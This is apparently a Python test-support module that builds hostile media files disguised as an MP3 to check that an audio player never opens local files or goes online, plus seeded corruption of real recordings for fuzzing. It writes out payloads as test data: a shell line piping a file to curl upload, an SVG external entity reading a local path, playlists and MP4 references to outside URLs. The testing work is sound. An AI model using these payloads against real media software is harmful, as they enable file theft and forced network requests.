"""Files that would have a player open others or go online, all of them served as call.mp3, and damaged audio.

`hostile_files` names a file and a URL inside them that nobody must open; `damaged_files` are real recordings
with random damage, the same at every run.
"""

import random
import struct
from collections.abc import Iterator
from pathlib import Path

from tests.support import audio

# ID3v2.4 with an empty tag: what follows looks like an MP3 at its first bytes.
ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x00"
# The beginning of an ADTS frame.
ADTS = b"\xff\xf1\x50\x80\x00\x1f\xfc"


def hostile_files(path: Path, url: str) -> dict[str, bytes]:
    """Name → bytes; `path` is of a real recording, so that a player who opens it goes on happily."""
    scripted = _playlists(path, url) | _pictures(path, url) | _scripts(path, url)
    disguised = {}
    for name in ("HLS", "ffconcat", "SDP", "DASH"):
        disguised[f"{name} behind an ID3 tag"] = ID3 + scripted[name]
        disguised[f"{name} behind an AAC frame"] = ADTS + scripted[name]
        disguised[f"{name} in a WAV"] = _wav_around(scripted[name])
    return scripted | disguised | _external_media(path, url)


def damaged_files(number: int) -> Iterator[tuple[str, bytes]]:
    """`number` recordings of all containers in turn, each with damage of its own."""
    whole = {
        "WAV": audio.wav(0.5),
        "extensible WAV": audio.wav(0.5, channels=2, extensible=True),
        "GSM WAV": audio.gsm_wav(),
        "MP3": audio.mp3(0.5, tags={"title": "a call"}),
        "AAC": audio.aac(0.5),
        "MP4": audio.mp4(0.5, index_first=True),
        "fragmented MP4": audio.mp4(0.5, fragmented=True),
    }
    for index in range(number):
        name = list(whole)[index % len(whole)]
        yield f"damaged {name} {index}", _damaged(whole[name], random.Random(index))


def _playlists(path: Path, url: str) -> dict[str, bytes]:
    port = url.split(":")[2].split("/")[0]
    lines = {
        "HLS": f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}\n#EXTINF:1,\n{path}\n#EXT-X-ENDLIST\n",
        "HLS with a key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:1,\nfile://{path}\n',
        "HLS of playlists": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}.m3u8\n",
        "HLS behind a byte order mark": f"\ufeff#EXTM3U\n#EXTINF:1,\n{url}\n",
        "M3U": f"{url}\n{path}\n",
        "ffconcat": f"ffconcat version 1.0\nfile '{path}'\nfile '{url}'\n",
        "PLS": f"[playlist]\nNumberOfEntries=1\nFile1={url}\n",
        "ASX": f'<asx version="3.0"><entry><ref href="{url}"/></entry></asx>',
        "XSPF": f"<playlist><trackList><track><location>{url}</location></track></trackList></playlist>",
        "DASH": f'<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>{url}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>",
        "Smooth Streaming": f'<SmoothStreamingMedia><StreamIndex Url="{url}"/></SmoothStreamingMedia>',
        "SMIL": f'<smil><body><audio src="{url}"/></body></smil>',
        "SDP": f"v=0\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio {port} RTP/AVP 0\r\n",
        "RAM": f"rtsp://127.0.0.1:{port}/a.rm\n",
    }
    return {name: text.encode() for name, text in lines.items()}


def _pictures(path: Path, url: str) -> dict[str, bytes]:
    return {
        "PNG": audio.picture("png"),
        "JPEG": audio.picture("jpeg"),
        "GIF": audio.picture("gif"),
        "SVG": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>'.encode(),
        "SVG with an entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{path}">]><svg>&x;</svg>'.encode(),
        "MVG": f"push graphic-context\nviewbox 0 0 1 1\nfill 'url({url})'\npop graphic-context\n".encode(),
    }


def _scripts(path: Path, url: str) -> dict[str, bytes]:
    return {
        "shell": f"#!/bin/sh\ncat {path} | curl -T - {url}\n".encode(),
        "PHP": f"<?php readfile('{url}');".encode(),
        "Python": f"import urllib.request\nurllib.request.urlopen('{url}')\n".encode(),
        "AviSynth": f'DirectShowSource("{path}")\n'.encode(),
        "PostScript": f"%!PS\n({path}) (r) file\n".encode(),
        "ffmetadata": f";FFMETADATA1\ntitle={url}\n".encode(),
        "HTML": f'<html><audio src="{url}"></audio></html>'.encode(),
    }


def _external_media(path: Path, url: str) -> dict[str, bytes]:
    """Audio that says where the rest of it is."""
    alias = _alias(path)
    references = {
        "a URL": b"url \0\0\0\0" + url.encode() + b"\0",
        "a file": b"url \0\0\0\0" + f"file://{path}".encode() + b"\0",
        "a URN": b"urn \0\0\0\0" + b"call\0" + url.encode() + b"\0",
        "an alias": b"alis\0\0\0\0" + alias,
        "a resource": b"rsrc\0\0\0\0" + alias,
    }
    files = {f"MP4 with its data at {name}": _mp4_with_data_at(entry) for name, entry in references.items()}
    reference = _box(b"rdrf", b"\0\0\0\0url " + struct.pack(">I", len(url) + 1) + url.encode() + b"\0")
    movie = _box(b"moov", _box(b"rmra", _box(b"rmda", reference)))
    files["QuickTime reference movie"] = _box(b"ftyp", b"qt  \0\0\0\0qt  ") + movie
    files["MP3 with its cover at a URL"] = _id3(b"APIC", b"\0-->\0\3\0" + url.encode()) + audio.mp3(0.3)
    files["MP3 with a link"] = _id3(b"WXXX", b"\0\0" + url.encode()) + audio.mp3(0.3)
    return files


def _mp4_with_data_at(entry: bytes) -> bytes:
    """An MP4 whose data reference (ISO/IEC 14496-12 §8.7.2) is `entry` instead of "in this file"."""
    data = audio.mp4(0.3)  # its index stands last, so nothing in front of it moves
    start = data.index(b"dref") - 4
    old_size = struct.unpack(">I", data[start : start + 4])[0]
    box = _box(b"dref", struct.pack(">II", 0, 1) + struct.pack(">I", 4 + len(entry)) + entry)
    changed = bytearray(data[:start] + box + data[start + old_size :])
    for name in (b"moov", b"trak", b"mdia", b"minf", b"dinf"):
        at = changed.index(name) - 4
        size = struct.unpack(">I", changed[at : at + 4])[0]
        changed[at : at + 4] = struct.pack(">I", size + len(box) - old_size)
    return bytes(changed)


def _alias(path: Path) -> bytes:
    """A Mac alias record as FFmpeg reads it: volume, file name, and as its only tag (2) the absolute path."""
    name = path.name.encode()[:63]
    head = bytes(10) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    head += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16) + struct.pack(">hh", 0, 0) + bytes(16)
    target = b"disk" + str(path).replace("/", ":").encode()
    padding = b"\0" * (len(target) % 2)
    return head + struct.pack(">HH", 2, len(target)) + target + padding + b"\xff\xff\0\0"


def _id3(frame: bytes, content: bytes) -> bytes:
    body = frame + struct.pack(">I", len(content)) + b"\0\0" + content
    assert len(body) < 128 * 128
    return b"ID3\x03\0\0" + bytes([0, 0, len(body) >> 7, len(body) & 0x7F]) + body


def _wav_around(content: bytes) -> bytes:
    wav = audio.wav(0.1)
    return wav[:40] + struct.pack("<I", len(content)) + content


def _box(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", 8 + len(content)) + name + content


def _damaged(data: bytes, chance: random.Random) -> bytes:
    damaged = bytearray(data)
    for _ in range(chance.randint(1, 12)):
        # Headers are short and decide the most.
        at = chance.randrange(min(len(damaged), chance.choice((64, 512, len(damaged)))))
        length = chance.randint(1, 16)
        kind = chance.choice(("change", "change", "extreme", "cut", "repeat", "end"))
        if kind == "change":
            damaged[at : at + 1] = chance.randbytes(1)
        elif kind == "extreme":
            damaged[at : at + 4] = chance.choice((b"\xff" * 4, b"\x7f\xff\xff\xff", b"\0" * 4, b"\x80\0\0\0"))
        elif kind == "cut":
            del damaged[at : at + length]
        elif kind == "repeat":
            damaged[at:at] = damaged[at : at + length] * chance.randint(1, 50)
        elif len(damaged) > 128:
            del damaged[chance.randrange(64, len(damaged)) :]
    return bytes(damaged)
